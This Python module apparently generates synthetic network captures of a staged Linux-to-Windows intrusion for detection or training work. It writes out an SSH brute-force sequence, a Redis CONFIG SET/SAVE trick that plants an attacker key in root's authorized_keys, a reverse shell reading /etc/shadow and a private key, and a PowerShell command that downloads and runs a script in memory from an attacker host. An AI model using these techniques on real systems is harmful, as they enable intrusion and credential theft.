"""From one Linux guest to the next: guessed passwords, an unguarded Redis, a shell that calls back."""

from pcaps import apps
from pcaps.talk import APP02, ATTACKER, DB01, WEB03, WS21, Tcp, Wire


def ssh_guessing(wire: Wire) -> None:
    for _ in range(18):
        apps.ssh(wire, ATTACKER, DB01, software="libssh_0.10.6", exchanges=1)
        wire.wait(1.5)


def redis(wire: Wire) -> None:
    """The attacker's key is written to a file of root's by CONFIG SET and SAVE."""

    def command(*words: str) -> bytes:
        return f"*{len(words)}\r\n".encode() + b"".join(f"${len(w)}\r\n{w}\r\n".encode() for w in words)

    talk = Tcp(wire, ATTACKER, APP02, 6379).open()
    for words in (
        ("INFO",), ("SET", "x", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample kali\n\n"),
        ("CONFIG", "SET", "dir", "/root/.ssh/"),
        ("CONFIG", "SET", "dbfilename", "authorized_keys"), ("SAVE",),
    ):  # fmt: skip
        talk.client(command(*words)).server("+OK\r\n")
    talk.close()


def reverse_shell(wire: Wire) -> None:
    talk = Tcp(wire, APP02, ATTACKER, 4444).open()
    talk.client("bash: cannot set terminal process group (812): Inappropriate ioctl for device\n")
    talk.client("bash: no job control in this shell\nroot@app-02:~# ")
    talk.server("id\n").client("uid=0(root) gid=0(root) groups=0(root)\nroot@app-02:~# ")
    talk.server("cat /etc/shadow\n")
    talk.client("root:$6$Zx1qR0pL$Qm3a0K9cWv1Yx2n3b4V5c6X7z8:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n")
    talk.server("cat .ssh/id_ed25519\n")
    talk.client("-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbA==\n-----END OPENSSH PRIVATE KEY-----\n")
    talk.close()


def onwards(wire: Wire) -> None:
    """A Windows guest is told to fetch a script and run it in memory."""
    talk = Tcp(wire, WS21, ATTACKER, 4445).open()
    talk.client(
        "Microsoft Windows [Version 10.0.19045.4412]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\>"
    )
    talk.server("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.20.0.66/a.ps1')\"\n")
    talk.close()


def captures() -> dict[str, Wire]:
    wire = Wire(seed=5)
    ssh_guessing(wire)
    for part in (redis, reverse_shell, onwards):
        wire.wait(10)
        part(wire)
    apps.ssh(wire, WS21, WEB03)
    return {"lateral": wire}
